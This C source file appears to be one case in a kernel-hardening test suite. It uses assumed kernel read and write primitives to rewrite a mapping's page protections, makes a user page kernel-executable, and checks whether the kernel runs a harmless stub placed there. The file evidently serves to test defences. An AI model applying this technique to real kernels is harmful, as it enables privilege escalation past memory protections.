// SPDX-License-Identifier: GPL-2.0-only
/*
 * What entries of a mapping say besides the page comes from vma->vm_page_prot, which
 * is ordinary memory: that a page is the kernel's, and that it runs.
 */
#include <string.h>
#include <sys/mman.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
/* endbr64; mov $0x600d,%eax; ret */
static const unsigned char code[] = {
	0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x0d, 0x60, 0x00, 0x00, 0xc3,
};
#else
/* bti c; mov x0,#0x600d; ret */
static const unsigned int code[] = { 0xd503245f, 0xd28c01a0, 0xd65f03c0 };
#endif

#ifndef MADV_POPULATE_READ
#define MADV_POPULATE_READ 22
#endif

/* Shared, so that what was written is there when it is mapped again. */
enum outcome vma_code(void)
{
	char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	uint64_t vma, protection, value;
	struct slot slot;
	int err;

	if (page == MAP_FAILED)
		return broken("no shared page");
	memcpy(page, code, sizeof(code));
	__builtin___clear_cache(page, page + sizeof(code));
	vma = find_vma(page);
	if (!vma)
		return broken("no mapping found");
	protection = kread64(vma + VMA_PROT);
	err = kwrite64(vma + VMA_PROT, pte_make_executable(protection & ~PTE_USER));
	madvise(page, PAGE_SIZE, MADV_DONTNEED);
	if (madvise(page, PAGE_SIZE, MADV_POPULATE_READ) || kwalk((uint64_t)page, LEAF, 0, &slot) ||
	    !slot.value || slot.value & PTE_USER)
		err = -1;
	err = err ?: corrupt_command("call addr=0x%lx", (uint64_t)page);
	value = corrupt_answer("value");
	kwrite64(vma + VMA_PROT, protection);
	madvise(page, PAGE_SIZE, MADV_DONTNEED);
	if (err || value != 0x600d)
		return lost("call gave %d, value 0x%lx", err, value);
	return won("code written to user page %p ran in the kernel and returned 0x%lx", page, value);
}
